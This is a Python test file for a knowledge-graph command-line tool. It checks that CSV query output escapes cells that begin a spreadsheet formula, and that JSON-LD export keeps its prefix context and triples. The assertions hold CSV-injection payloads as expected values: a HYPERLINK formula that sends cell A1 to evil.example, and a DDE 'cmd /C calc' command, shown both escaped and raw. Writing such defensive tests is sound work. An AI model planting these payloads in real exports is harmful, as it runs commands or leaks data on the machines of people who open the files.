"""Exports opened by other programs: CSV cells that a spreadsheet would run as formulas, JSON-LD with a context."""

import csv
import io
import json
import subprocess
import sys
from pathlib import Path

from rdflib import Graph
from rdflib.compare import isomorphic

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = ROOT / "tests" / "data" / "inputs" / "hostile_cells.ttl"
SELECT = "SELECT ?p ?o WHERE { <https://w3id.org/kg-diplomacy/id/article/a1> ?p ?o } ORDER BY ?p"


def _query_csv(*extra):
    run = subprocess.run(
        [sys.executable, "-m", "kg.cli", "query", str(HOSTILE), "-q", SELECT, "--format", "csv", *extra],
        capture_output=True,
        text=True,
        cwd=ROOT,
        timeout=120,
    )
    assert run.returncode == 0, run.stderr
    return {row["p"].rsplit("/", 1)[-1]: row["o"] for row in csv.DictReader(io.StringIO(run.stdout))}


def test_csv_cells_that_start_a_formula_are_neutralised():
    cells = _query_csv()
    assert cells["name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert cells["publisher"] == "'+cmd|' /C calc'!A0"
    assert cells["alternateName"] == "'-2+3"
    assert cells["description"] == "'@SUM(1,2)"
    assert cells["position"] == "-3"  # a plain number stays a number
    assert cells["datePublished"] == "2024-02-12"


def test_raw_csv_writes_the_cells_as_they_are():
    cells = _query_csv("--raw-csv")
    assert cells["name"].startswith("=HYPERLINK(") and cells["publisher"] == "+cmd|' /C calc'!A0"


def test_json_ld_is_written_with_a_context_and_the_same_triples(tmp_path):
    from kg.graph.export import write_graph
    from kg.graph.store import load_graph

    path = write_graph(load_graph(HOSTILE), tmp_path / "graph.jsonld")
    document = json.loads(path.read_text(encoding="utf-8"))
    context = document["@context"]
    for prefix in ("dip", "kgr", "schema", "prov", "nif", "sem", "rdfs", "xsd", "owl", "skos"):
        assert context[prefix].endswith(("/", "#")), prefix
    assert context["dip"] == "https://w3id.org/kg-diplomacy/ontology#"
    nodes = {node["@id"]: node for node in document["@graph"]}
    assert nodes["kgr:event/e1"]["@type"] == ["dip:Visit"]
    assert nodes["kgr:event/e1"]["prov:wasDerivedFrom"] == [{"@id": "kgr:article/a1"}]
    assert isomorphic(Graph().parse(path, format="json-ld"), Graph().parse(HOSTILE))
